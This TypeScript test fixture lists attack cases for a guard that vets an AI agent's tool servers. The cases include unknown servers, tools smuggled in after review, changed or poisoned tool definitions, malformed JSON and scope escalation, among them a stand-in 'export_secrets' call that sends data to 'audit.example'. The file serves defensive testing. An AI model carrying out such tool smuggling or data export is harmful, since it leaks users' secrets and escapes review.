// Cases A and B of 95-testing section 2: who is called, and what the definitions have become.
import type { AttackCall, AttackRow } from "./fixtures-attack-types.ts";
import { POISON_TEXT } from "./mock-drift.ts";
import type { Malform, MockSwitches, ToolDrift } from "./mock-switches.ts";

const SMUGGLED = "export_secrets";
const READ: AttackCall = { name: "read_text_file", arguments: { path: "/workspace/a.txt" } };
const DELETE: AttackCall = { name: "delete_file", arguments: { path: "/workspace/a.txt" } };
const SMUGGLED_CALL: AttackCall = { name: SMUGGLED, arguments: { destination: "audit.example" } };

/** Between the listing and the call the server changes and says that its list has changed. */
const AFTER_FIRST_LIST: MockSwitches = { after: 1, listChanged: 1, on: "tools/list" };

/** Rows A and B, and the one of scope escalation. */
export const CATALOG_ATTACK_ROWS: Readonly<Record<string, AttackRow>> = {
  "A1-unknown-server": {
    id: "A1",
    title: "a server that the catalog does not name is called",
    attackClass: "unknown-server smuggle",
    switches: {},
    call: { ...READ, server: "shadow-filesystem" },
    expectedReason: "unknown_server",
  },
  "A2-other-definitions": {
    id: "A2",
    title: "a known server shows other definitions than the reviewed ones",
    attackClass: "fingerprint drift",
    switches: { drift: "description" },
    call: READ,
    expectedReason: "fingerprint_drift",
    forbidden: [POISON_TEXT],
  },
  "A4-never-listed": {
    id: "A4",
    title: "a tool that no listing has shown is called",
    attackClass: "tool smuggle",
    switches: { answerUnlisted: true },
    call: SMUGGLED_CALL,
    expectedReason: "tool_smuggle",
  },
  "A5-page-2": {
    id: "A5",
    title: "a tool that nobody reviewed is only on page 2",
    attackClass: "tool smuggle",
    switches: { smuggle: "page-2" },
    call: SMUGGLED_CALL,
    expectedReason: "tool_smuggle",
    forbidden: [SMUGGLED],
  },
  "A5-endless-cursor": {
    id: "A5",
    title: "the listing never ends",
    switches: { cursors: "endless" },
    call: READ,
    expectedReason: "server_not_admitted",
  },
  "A5-repeated-cursor": {
    id: "A5",
    title: "the listing sends the reader round in a circle",
    switches: { cursors: "repeated" },
    call: READ,
    expectedReason: "server_not_admitted",
  },
  "A5-two-pages-two-definitions": {
    id: "A5",
    title: "a tool is on two pages with two definitions",
    attackClass: "fingerprint drift",
    switches: { duplicate: "two-pages" },
    call: READ,
    expectedReason: "fingerprint_drift",
  },
  "A5-one-page-two-definitions": {
    id: "A5",
    title: "a tool is on one page with two definitions",
    attackClass: "fingerprint drift",
    switches: { duplicate: "one-page" },
    call: READ,
    expectedReason: "fingerprint_drift",
  },
  "A6-renamed": {
    id: "A6",
    title: "a reviewed tool gets a new name after the review",
    attackClass: "tool smuggle",
    switches: { drift: "name" },
    call: { ...READ, name: "read_text_file_v2" },
    expectedReason: "tool_smuggle",
    forbidden: ["read_text_file_v2"],
  },
  "A6-extra-tool": {
    id: "A6",
    title: "a tool appears after the review",
    attackClass: "tool smuggle",
    switches: { smuggle: "last" },
    call: SMUGGLED_CALL,
    expectedReason: "tool_smuggle",
    forbidden: [SMUGGLED],
  },
  "A6-beside-a-reviewed-tool": {
    id: "A6",
    title: "a server that smuggles a tool is not trusted with its reviewed ones",
    attackClass: "tool smuggle",
    switches: { smuggle: "last" },
    call: READ,
    expectedReason: "server_not_admitted",
  },
  ...driftRows("B1", ["description"]),
  ...driftRows("B2", ["rename-parameter", "schema-required"]),
  ...driftRows("B3", ["annotations", "title", "icons", "_meta", "output-schema", "unknown-member"]),
  ...driftRows("B4", [
    "deep-schema",
    "schema-defs",
    "schema-items",
    "schema-default",
    "schema-enum",
    "schema-additional-properties",
    "schema-pattern",
  ]),
  ...driftRows("B6", ["field-boundary"]),
  ...driftRows("B7", ["null-member", "empty-member"]),
  "B5-key-order": {
    id: "B5",
    title: "only the order of the keys changes, which is no attack",
    switches: { drift: "key-order" },
    call: READ,
    expectedReason: "allowed",
  },
  "B5-white-space": {
    id: "B5",
    title: "only white space changes, which is no attack",
    switches: { malform: "white-space" },
    call: READ,
    expectedReason: "allowed",
  },
  "B8-proto-member": malformRow("B8", "proto-member"),
  "B9-duplicate-member": malformRow("B9", "duplicate-member"),
  "B9-duplicate-nested-member": malformRow("B9", "duplicate-nested-member"),
  "B9-case-variant-member": malformRow("B9", "case-variant-member"),
  "B9-big-integer": malformRow("B9", "big-integer"),
  "B9-negative-zero": malformRow("B9", "negative-zero"),
  "B9-overflow-number": malformRow("B9", "overflow-number"),
  "B9-number-spelling": malformRow("B9", "number-spelling"),
  "B9-lone-surrogate": malformRow("B9", "lone-surrogate"),
  "B9-deep": malformRow("B9", "deep"),
  "B9-bom": {
    ...malformRow("B9", "bom"),
    expectedReason: "server_not_admitted",
  },
  "B9-invalid-utf8": {
    ...malformRow("B9", "invalid-utf8"),
    expectedReason: "server_not_admitted",
  },
  "B9-control-character": {
    ...malformRow("B9", "control-character"),
    expectedReason: "server_not_admitted",
  },
  "B12-list-then-change": {
    id: "B12",
    title: "the definition changes between the listing and the call",
    attackClass: "fingerprint drift",
    switches: { ...AFTER_FIRST_LIST, drift: "description" },
    call: READ,
    expectedReason: "fingerprint_drift",
  },
  "B12-flicker": {
    id: "B12",
    title: "the definition changes for one listing and then changes back",
    attackClass: "fingerprint drift",
    switches: { ...AFTER_FIRST_LIST, drift: "description", flicker: true, times: 2 },
    call: READ,
    expectedReason: "fingerprint_drift",
  },
  "B12-list-refused": {
    id: "B12",
    title: "the server refuses to list",
    switches: { list: "refused" },
    call: READ,
    expectedReason: "server_not_admitted",
  },
  "B12-list-unanswered": {
    id: "B12",
    title: "the server never answers a listing",
    switches: { list: "unanswered" },
    call: READ,
    expectedReason: "server_not_admitted",
  },
  "B12-storm": {
    id: "B12",
    title: "a thousand list_changed make the guard list a bounded number of times",
    switches: { listChanged: 1000, on: "tools/list" },
    call: READ,
    expectedReason: "allowed",
  },
  "B13-instructions": {
    id: "B13",
    title: "the instructions change after the review",
    attackClass: "fingerprint drift",
    switches: { drift: "instructions" },
    call: READ,
    expectedReason: "fingerprint_drift",
    forbidden: ["https://audit.example"],
  },
  "B13-smuggled-prompt": {
    id: "B13",
    title: "a prompt appears after the review",
    attackClass: "tool smuggle",
    switches: { smuggle: "last", smuggleKind: "prompt" },
    call: READ,
    expectedReason: "server_not_admitted",
    forbidden: [SMUGGLED],
  },
  ...otherDriftRows(),
  "scope-escalation": {
    id: "scope-escalation",
    title: "a tool is called with less scope than it needs",
    attackClass: "scope escalation",
    switches: {},
    call: { ...DELETE, scopeCap: ["fs.read"] },
    expectedReason: "scope_escalation",
  },
};

function driftRows(id: string, drifts: readonly ToolDrift[]): Record<string, AttackRow> {
  return Object.fromEntries(
    drifts.map((drift): [string, AttackRow] => [
      `${id}-${drift}`,
      {
        id,
        title: `a reviewed tool changes: ${drift}`,
        attackClass: "fingerprint drift",
        switches: { drift },
        call: READ,
        expectedReason: "fingerprint_drift",
        forbidden: drift === "description" ? [POISON_TEXT] : [],
      },
    ]),
  );
}

function otherDriftRows(): Record<string, AttackRow> {
  const drifts = ["prompt", "resource", "resource_template"] as const;
  return Object.fromEntries(
    drifts.map((drift): [string, AttackRow] => [
      `B13-${drift}`,
      {
        id: "B13",
        title: `a reviewed ${drift} changes`,
        attackClass: "fingerprint drift",
        switches: { drift },
        call: READ,
        expectedReason: "server_not_admitted",
        forbidden: [POISON_TEXT],
      },
    ]),
  );
}

function malformRow(id: string, malform: Malform): AttackRow {
  return {
    id,
    title: `a definition that JSON readers disagree about: ${malform}`,
    attackClass: "fingerprint drift",
    switches: { malform },
    call: READ,
    expectedReason: "fingerprint_drift",
  };
}
